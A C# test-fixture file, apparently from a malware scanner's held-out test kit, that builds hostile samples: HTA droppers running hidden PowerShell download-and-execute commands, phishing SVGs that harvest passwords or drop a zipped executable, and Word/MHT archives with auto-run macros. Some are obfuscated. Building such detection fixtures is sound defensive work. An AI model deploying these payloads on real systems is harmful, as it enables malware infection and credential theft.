using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Sixth;

/// <summary>An HTML application that fetches a program and starts it.</summary>
public sealed class ApplicationThatDropsAProgram : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("update.hta", Dos(""""
            <html><head><title>Update</title>
            <HTA:APPLICATION ID="o" APPLICATIONNAME="o" BORDER="none" SHOWINTASKBAR="no" SINGLEINSTANCE="yes" WINDOWSTATE="minimize">
            <script language="VBScript">
            Sub Window_OnLoad
                Set sh = CreateObject("WScript.Shell")
                sh.Run "powershell.exe -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -Command ""(New-Object System.Net.WebClient).DownloadFile('http://192.0.2.91/update.exe', $env:TEMP + '\update.exe'); Start-Process ($env:TEMP + '\update.exe')""", 0, False
                window.close
            End Sub
            </script></head><body></body></html>
            """"));

        yield return ("Bestellung.hta", Dos(Fill("""
            <!DOCTYPE html><html><head><meta http-equiv="x-ua-compatible" content="ie=9"><hta:application windowstate="minimize" showintaskbar="no"/>
            <script type="text/javascript">
            window.resizeTo(0, 0); window.moveTo(-2000, -2000);
            var w = new ActiveXObject("WScript.Shell");
            w.Run("powershell -nop -w hidden -e @@1", 0);
            self.close();
            </script></head></html>
            """, Encoded("$b=(New-Object Net.WebClient).DownloadData('http://198.51.100.31/b.bin');[Reflection.Assembly]::Load($b).EntryPoint.Invoke($null,$null)"))));

        yield return ("form.hta", Dos(Fill("""
            <script language="VBScript">
              Set objShell = CreateObject("Shell.Application")
              Set fso = CreateObject("Scripting.FileSystemObject")
              tmp = fso.GetSpecialFolder(2) & "\" & fso.GetTempName() & ".exe"
              Function hexOut(h)
                Dim i
                Set f = fso.CreateTextFile(tmp, True)
                For i = 1 To Len(h) Step 2
                  f.Write Chr(CLng("&H" & Mid(h, i, 2)))
                Next
                f.Close
              End Function
              hexOut "@@1"
              objShell.ShellExecute tmp, "", "", "open", 0
              self.close
            </script>
            """, Convert.ToHexString(Carriers.Program()))));

        // Half a megabyte of newspaper around it, the object's name in a registry value that it writes itself, the words in a list.
        yield return ("readme.hta", Dos(Fill("""
            <html><head><title>Read me</title></head><body>
            @@1
            <script language="jscript">
            var p = ["ipt.Sh", "WScr", "ell", "Expl", "oit", "rl -s -o ", "cu", "%pub", "lic%\\r.js http://203.0.113.7/r & wsc", "ript //b %public%\\r.js"];
            try { var z = new ActiveXObject(p[1] + p[0] + p[2]); z["R" + "un"](z.ExpandEnvironmentStrings("%COM" + "SPEC%") + " /d /c " + p[6] + p[5] + p[7] + p[8] + p[9], 0, !1); } catch (e) {}
            window.setTimeout("window.close()", 900);
            </script></body></html>
            """, string.Concat(Enumerable.Range(1, 1500).Select(line => $"<!-- {line}: The council met again on the question of the bridge, and the harbour master spoke for the ferrymen. -->\n")))));
    }
}

/// <summary>A vector drawing, sent as an invoice or a voice mail, whose script leads away, asks for a password or saves a file.</summary>
public sealed class DrawingSentAsDocument : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("PlayVoicemail.svg", Utf8(Fill("""
            <?xml version="1.0" encoding="UTF-8"?>
            <svg xmlns="http://www.w3.org/2000/svg" width="400" height="250">
            <script type="application/ecmascript"><![CDATA[
            var mail = "dana@kestrel-foods.example";
            window.location.href = atob("@@1") + mail;
            ]]></script>
            </svg>
            """, Base64("https://voicemail-portal.test/auth/?e="))));

        yield return ("Invoice_7781.svg", Utf8("""
            <svg xmlns="http://www.w3.org/2000/svg" width="100%" height="100%">
            <rect width="100%" height="100%" fill="#217346"/>
            <foreignObject x="30%" y="20%" width="420" height="400"><body xmlns="http://www.w3.org/1999/xhtml"><div style="background:#fff;padding:30px;font-family:Segoe UI">
            <h2>Microsoft Excel</h2><p>Sign in with your work account to view Invoice_7781.xlsx</p>
            <form action="https://xls-online.test/post.php" method="POST"><input name="user" type="email" placeholder="someone@company.example"/><input name="pass" type="password" placeholder="Password"/><button type="submit">View</button></form>
            </div></body></foreignObject></svg>
            """));

        yield return ("Demanda_judicial.svg", Utf8(Fill("""
            <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 600 300" onload="descargar()">
            <text x="20" y="40" font-size="22">Fiscalía General - Notificación judicial</text><text x="20" y="80">Descargando documento oficial... Contraseña: 2026</text>
            <script><![CDATA[
            function descargar() {
              var b = atob("@@1"), a = new Uint8Array(b.length);
              for (var i = 0; i < b.length; i++) a[i] = b.charCodeAt(i);
              var l = document.createElementNS("http://www.w3.org/1999/xhtml", "a");
              l.href = URL.createObjectURL(new Blob([a], { type: "application/zip" }));
              l.download = "Demanda_2026.zip";
              document.documentElement.appendChild(l);
              l.click();
            }
            ]]></script></svg>
            """, Convert.ToBase64String(Carriers.Packed("d.zip", "-tzip -p2026", ("Demanda.exe", Carriers.Program()))))));

        // No script element: a handler of an animation, letters as entities, and the address exclusive-or a key from the element's own attribute.
        yield return ("scan.svg", Utf8(Fill("""
            <svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><g id="k" data-v="@@1" data-k="91">
            <animate attributeName="x" dur="0.1s" onbegin="&#118;ar&#32;g=document.getElementById('k').dataset,o='';g.v.match(/../g).forEach(function(h){o+=String.fromCharCode(parseInt(h,16)^g.k)});this['owner'+'Document']['default'+'View']['loca'+'tion']['assign'](o)"/>
            </g></svg>
            """, Hex("https://sso.docs-share.test/r?c=3f", 91))));
    }
}

/// <summary>A web archive, often called a document, that hides a macro, a script or a whole page.</summary>
public sealed class WebArchiveWithLoad : SixthRound
{
    private const string Macro = """
        Sub AutoOpen()
            Shell "cmd /c mshta http://203.0.113.99/m.hta", vbHide
        End Sub
        """;

    // "ActiveMime", a version, a size of what follows in front of the packed compound file at 0x32.
    private static byte[] ActiveMime(byte[] compound)
    {
        using var packed = new MemoryStream();
        using (var zlib = new System.IO.Compression.ZLibStream(packed, System.IO.Compression.CompressionLevel.Optimal, leaveOpen: true))
            zlib.Write(compound);
        return
        [
            .. "ActiveMime\0\0"u8, 0x01, 0xF0, 4, 0, 0, 0, 0xFF, 0xFF, 0xFF, 0xFF, 0x00, 0x00, 0x07, 0xF0, .. BitConverter.GetBytes((int)packed.Length),
            4, 0, 0, 0, 4, 0, 0, 0, 0, 0, 0, 0, .. BitConverter.GetBytes(compound.Length), .. packed.ToArray(),
        ];
    }

    private static string WordArchive(string part, byte[] macros) => Fill("""
        MIME-Version: 1.0
        Content-Type: multipart/related; boundary="----=_NextPart_01DC.5A0"

        ------=_NextPart_01DC.5A0
        Content-Location: file:///C:/7A1/doc.htm
        Content-Transfer-Encoding: quoted-printable
        Content-Type: text/html; charset="us-ascii"

        <html xmlns:o=3D"urn:schemas-microsoft-com:office:office" xmlns:w=3D"urn:schemas-microsoft-com:office:word">
        <head><meta name=3DProgId content=3DWord.Document><link rel=3DEdit-Time-Data href=3D"@@1"></head>
        <body><p>This document was created in an earlier version of Microsoft Office. Press Enable Editing and Enable Content.</p></body></html>

        ------=_NextPart_01DC.5A0
        Content-Location: file:///C:/7A1/@@1
        Content-Transfer-Encoding: base64
        Content-Type: application/x-mso

        @@2

        ------=_NextPart_01DC.5A0--
        """, part, Carriers.Lines(ActiveMime(macros)));

    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Quotation.doc", Dos(WordArchive("editdata.mso", Project("ThisDocument", Macro))));

        yield return ("Report.mht", Dos("""
            From: <Saved by Windows Internet Explorer>
            Subject: Report
            MIME-Version: 1.0
            Content-Type: multipart/related; type="text/html"; boundary="----=_x1"

            ------=_x1
            Content-Type: text/html; charset="utf-8"
            Content-Location: http://reports.docs-share.test/report.htm

            <html><body onload="go()"><script language="vbscript">
            Sub go
              Set x = CreateObject("MSXML2.XMLHTTP") : x.Open "GET", "http://192.0.2.14/r.exe", False : x.Send
              Set s = CreateObject("ADODB.Stream") : s.Type = 1 : s.Open : s.Write x.ResponseBody : s.SaveToFile "C:\Users\Public\r.exe", 2
              CreateObject("WScript.Shell").Run "C:\Users\Public\r.exe", 0
            End Sub
            </script>The report is loading.</body></html>
            ------=_x1--
            """));

        // The macro part pretends to be a picture, inside of what begins as a portable document.
        yield return ("Bewerbung.pdf.doc", [.. PdfBuilder.Document()[..^6], .. "\r\nendobj\r\n"u8, .. Dos(WordArchive("header.jpg", Project("ThisDocument", Macro)).Replace("application/x-mso", "image/jpeg", StringComparison.Ordinal)), .. "\r\n%%EOF\r\n"u8]);

        yield return ("tracking.mhtml", Dos(Fill("""
            MIME-Version: 1.0
            Content-Type: multipart/related; boundary="b"

            --b
            Content-Type: text/html; charset="utf-8"
            Content-Transfer-Encoding: base64
            Content-Location: cid:f@mhtml.blink

            @@1
            --b--
            """, Carriers.Lines(Utf8(Fill("""
            <html><head><title>FedEx tracking</title></head><body><h3>FedEx</h3><p>Preparing shipping label...</p><script>
            const d=Uint8Array.from(atob('@@1'),c=>c.charCodeAt(0));const e=document.createElement('a');e.href=URL.createObjectURL(new Blob([d]));e.download='label_7788.zip';document.body.append(e);e.click();
            </script></body></html>
            """, Convert.ToBase64String(InertFiles.Zip(("label_7788.wsf", Dos("<job><script language=\"JScript\">new ActiveXObject(\"WScript.Shell\").Run(\"powershell -c iwr http://192.0.2.15/l.ps1|iex\",0);</script></job>"))))))))));
    }
}
